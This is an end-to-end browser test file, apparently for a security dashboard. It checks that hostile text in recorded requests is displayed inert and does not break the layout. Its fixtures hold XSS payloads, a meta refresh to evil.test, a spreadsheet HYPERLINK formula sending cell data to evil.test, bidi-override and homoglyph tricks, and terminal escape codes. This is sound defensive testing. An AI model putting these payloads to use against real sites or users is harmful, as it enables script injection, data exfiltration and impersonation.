// What attackers write is shown as what it is: nothing of it runs, nothing of it hides, and nothing of it moves what is
// beside it.
import type { Recorded } from "../support/server.ts";
import { escape } from "../support/screens.ts";
import { expect, expectAccessible, test } from "../support/story.ts";
import type { Page } from "@playwright/test";

test.describe.configure({ mode: "default" });

/** Texts, and how they are shown. What would run says so in `window.ran`. */
const texts: Record<string, { text: string; shown?: string }> = {
  script: { text: "<script>window.ran=1</script>" },
  image: { text: '<img src=x onerror="window.ran=2">' },
  attribute: { text: '"><svg onload=window.ran=3>' },
  single: { text: "' onmouseover='window.ran=4" },
  style: { text: "</style><script>window.ran=5</script><style>" },
  refresh: { text: '<meta http-equiv="refresh" content="0;url=https://evil.test/">' },
  frame: { text: '<iframe srcdoc="<script>parent.ran=6</script>"></iframe>' },
  address: { text: "javascript:window.ran=7" },
  data: { text: "data:text/html,<script>opener.ran=8</script>" },
  template: { text: "{{constructor.constructor('window.ran=9')()}} ${window.ran=10}" },
  entity: { text: "&lt;b&gt; &#x3c;i&#x3e;" },
  encoded: { text: "%3Cscript%3E %253Cscript%253E" },
  formula: { text: "=HYPERLINK(\"https://evil.test/?\"&A1,\"x\")" },
  override: { text: "invoice\u202Egpj.exe", shown: "invoice⟨U+202E⟩gpj.exe" },
  isolate: { text: "\u2066blocked\u2069", shown: "⟨U+2066⟩blocked⟨U+2069⟩" },
  zero: { text: "ad\u200Bmin", shown: "ad⟨U+200B⟩min" },
  plain: { text: "admin" },
  cyrillic: { text: "аdmin" },
  tags: { text: "x\u{E0041}\u{E0042}", shown: "x⟨U+E0041⟩⟨U+E0042⟩" },
  nul: { text: "a\u0000b", shown: "a⟨U+0000⟩b" },
  escape: { text: "\u001B[2J\u0007", shown: "⟨U+001B⟩[2J⟨U+0007⟩" },
  lines: { text: "one\r\ntwo\u2028three\ttab", shown: "one⟨\\r⟩⟨\\n⟩two⟨U+2028⟩three⟨\\t⟩tab" },
  hebrew: { text: "משתמש 12 (אורח)" },
  arabic: { text: "مستخدم ١٢" },
  zalgo: { text: `z${"\u0334\u0335\u0337\u0322\u0321".repeat(200)}a` },
  emoji: { text: "👩🏽\u200D🚀🚩".repeat(3), shown: "👩🏽⟨U+200D⟩🚀🚩".repeat(3) },
};

const LONG = 100_000;
const nested = `${"[".repeat(2_000)}${"]".repeat(2_000)}`;

/** One session for each text, which stands wherever a client can put it; and one of everything that is too long. */
const hostile = {
  name: "hostile",
  requests: (): Recorded[] => {
    const requests = Object.entries(texts).flatMap(([name, { text }], index) =>
      [0, 1].map((step) => ({
        id: `${name}-${step}`,
        time: new Date(Date.parse("2026-03-02T09:00:00Z") + index * 60_000 + step * 1_000).toISOString(),
        application: text,
        host: "api.shop.test",
        method: step === 0 ? "GET" : "POST",
        path: `/v2/search?q=${text}`,
        status: 200,
        size: 12,
        duration_ms: 3,
        user: text,
        role: text,
        network: text,
        ip: `198.18.1.${index}`,
        user_agent: text,
        referrer: text,
        attacks: step === 0 ? [] : [{ type: text, payload: text, parameter: text, rule: text, severity: text, tags: [text], detector: text, action: "monitored" }],
        bot: { kind: text, score: 0.5, reasons: [text] },
        parameters: [{ place: "header", name: text, value: text, use: "extra" }],
        exchange: {
          request_headers: [[text, text], ["__proto__", "x"], ["Content-Type", "application/json"]],
          request_body: text,
          response_headers: [[text, text]],
          response_body: text,
        },
      })),
    );
    const long = {
      id: "long-0",
      time: "2026-03-02T10:00:00Z",
      host: "api.shop.test",
      method: "GET",
      path: `/${"a".repeat(LONG)}`,
      status: 200,
      user: "u".repeat(LONG),
      role: "r".repeat(LONG),
      ip: "198.18.2.1",
      user_agent: "b".repeat(LONG),
      exchange: { request_headers: [["X-Long", "h".repeat(LONG)]], request_body: nested, response_headers: [], response_body: `${"x".repeat(LONG)}\n`.repeat(3) },
    };
    return [...requests, long];
  },
};
test.use({ data: { made: hostile } });

/** Fails where anything of a request came alive in the page. */
async function expectInert(page: Page): Promise<void> {
  expect(await page.evaluate(() => (window as unknown as { ran?: unknown }).ran)).toBeUndefined();
  const alive = await page.evaluate(() => {
    const found = [...document.querySelectorAll("main :is(script, img, iframe, meta, style, object, base, link, b, i)")].map((element) => element.outerHTML);
    const handlers = [...document.querySelectorAll("main *")].flatMap((element) =>
      element.getAttributeNames().filter((name) => name.startsWith("on")).map((name) => `${element.tagName} ${name}`),
    );
    const links = [...document.querySelectorAll<HTMLAnchorElement>("a[href]")].map((link) => link.getAttribute("href") ?? "");
    return [...found, ...handlers, ...links.filter((href) => !/^(\/(sessions|attacks)(\/|\?|$)|\/(rules|import|settings)$|#main)/.test(href))];
  });
  expect(alive).toEqual([]);
}

/** Fails where the page is wider than the window. */
async function expectNoOverflow(page: Page): Promise<void> {
  expect(await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth)).toBeLessThanOrEqual(0);
}

test.beforeEach(({ page }) => {
  page.on("dialog", (dialog) => {
    throw new Error(`a dialog opened: ${dialog.message()}`);
  });
});

test("the list shows hostile texts as they are, each row as tall as the others", async ({ page, list }) => {
  for (const width of [1280, 768]) {
    await page.setViewportSize({ width, height: 800 });
    await list.visit();
    await list.expectSessions(Object.keys(texts).length + 1);
    await expectInert(page);
    await expectNoOverflow(page);
    const heights = await list.rows.evaluateAll((rows) => rows.map((row) => row.getBoundingClientRect().height));
    expect(new Set(heights).size, `rows at ${width}`).toBe(1);
    for (const { text, shown = text } of Object.values(texts)) {
      await expect(list.rows.filter({ hasText: shown.slice(0, 60) }).first(), shown).toBeAttached();
    }
  }
});

test("a user that reads from right to left leaves the cells beside it in order", async ({ list }) => {
  await list.visit();
  const cells = await list.session("משתמש 12 (אורח)").evaluate((row) =>
    [...row.children].map((cell) => ({ left: cell.getBoundingClientRect().left, direction: getComputedStyle(cell).direction })),
  );
  expect(cells.map(({ left }) => left)).toEqual(cells.map(({ left }) => left).toSorted((one, two) => one - two));
  expect(new Set(cells.map(({ direction }) => direction))).toEqual(new Set(["ltr"]));
  const words = await list.session("משתמש 12 (אורח)").locator("bdi").first().evaluate((element) => getComputedStyle(element).unicodeBidi);
  expect(words).toBe("isolate");
});

for (const [name, { text, shown = text }] of Object.entries(texts)) {
  // A page for each would only be slow: the texts that could run, and those that hide, one by one.
  if (["entity", "formula", "plain", "cyrillic", "arabic", "emoji", "tags", "isolate"].includes(name)) continue;
  test(`a session of “${name}” with an open request runs nothing and hides nothing`, async ({ page, list, session }) => {
    await list.visit(`?request=${name}-1`);
    await list.expectSessions(1);
    const id = /\/sessions\/([0-9a-f]{16})/.exec((await list.links.first().getAttribute("href")) ?? "")?.[1] ?? "";
    await session.visit(id, `?open=${name}-1`);
    await expect(session.count).toHaveText("2 requests");
    const detail = session.region.getByRole("cell").filter({ has: page.getByRole("heading", { name: "Full request" }) });
    await expect(detail.getByRole("heading", { name: "Detected attacks" })).toBeVisible();
    await detail.getByText("Response", { exact: true }).click();
    await expectInert(page);
    await expectNoOverflow(page);
    // Path, referrer, user, payload, parameters, headers, bodies: wherever it stands, it reads the same.
    expect(await detail.getByText(shown.slice(0, 200), { exact: false }).count()).toBeGreaterThan(8);
    await expect(session.facets.getByRole("link", { name: new RegExp(`^${escape(shown)}\\s*2\\s*100%`) }).first()).toBeAttached();
    const heights = await session.rows.evaluateAll((rows) => rows.map((row) => row.getBoundingClientRect().height));
    // The one that is open has the line of its detail, which adds a pixel.
    expect(heights.map((height) => Math.abs(height - 28) <= 1)).toEqual([true, true]);
  });
}

test("groups of attacks whose types, users and addresses are hostile run nothing and move nothing", async ({ page, attacks }) => {
  test.slow();
  for (const by of ["endpoint", "ip", "session"]) {
    await attacks.visit(`?group=${by}`);
    await expect(attacks.rows.first()).toBeVisible();
    await attacks.rows.last().scrollIntoViewIfNeeded();
    await expectInert(page);
    await expectNoOverflow(page);
    const heights = await attacks.rows.evaluateAll((rows) => rows.map((row) => row.getBoundingClientRect().height));
    expect(Math.max(...heights) - Math.min(...heights), `rows by ${by}`).toBeLessThanOrEqual(1);
    for (const { text, shown = text } of Object.values(texts)) {
      await expect(attacks.rows.filter({ hasText: shown.slice(0, 60) }).first(), shown).toBeAttached();
    }
  }
  for (const name of ["script", "override", "zalgo", "nul"]) {
    const { text, shown = text } = texts[name] ?? { text: "" };
    await attacks.visit(`?request=${name}-1`);
    await attacks.expectGroups(1);
    await attacks.rows.getByRole("rowheader").getByRole("link").click();
    await expect(attacks.requests).toHaveCount(1);
    await expect(attacks.region.getByText(shown.slice(0, 60), { exact: false }).first()).toBeAttached();
    await expectInert(page);
    await expectNoOverflow(page);
  }
});

test("names that look alike are told apart", async ({ list }) => {
  await list.visit();
  await list.open("More");
  await list.page.getByText("User", { exact: true }).last().click();
  await list.typing("User").fill("min");
  await expect(list.bar.getByRole("checkbox", { name: /⟨U\+200B⟩/ })).toHaveCount(1);
  await list.value("admin").check();
  await list.expectSessions(1);
  await list.value("admin").uncheck();
  await list.value("ad⟨U+200B⟩min").check();
  await list.expectSessions(1);
});

test("a path of a hundred thousand characters breaks no line and no layout", async ({ page, list, session }) => {
  await list.visit("?request=long-0");
  await list.expectSessions(1);
  const id = /\/sessions\/([0-9a-f]{16})/.exec((await list.links.first().getAttribute("href")) ?? "")?.[1] ?? "";
  for (const width of [1280, 768]) {
    await page.setViewportSize({ width, height: 800 });
    await session.visit(id);
    const height = await session.rows.first().evaluate((row) => row.getBoundingClientRect().height);
    expect(height).toBeLessThanOrEqual(29);
    await session.links.first().click();
    await expect(session.region.getByText(`characters more`).first()).toBeVisible();
    await expect(session.region.getByText(nested.slice(0, 500)).first()).toBeAttached();
    await expectNoOverflow(page);
    await expectInert(page);
  }
  await expectAccessible(page);
});
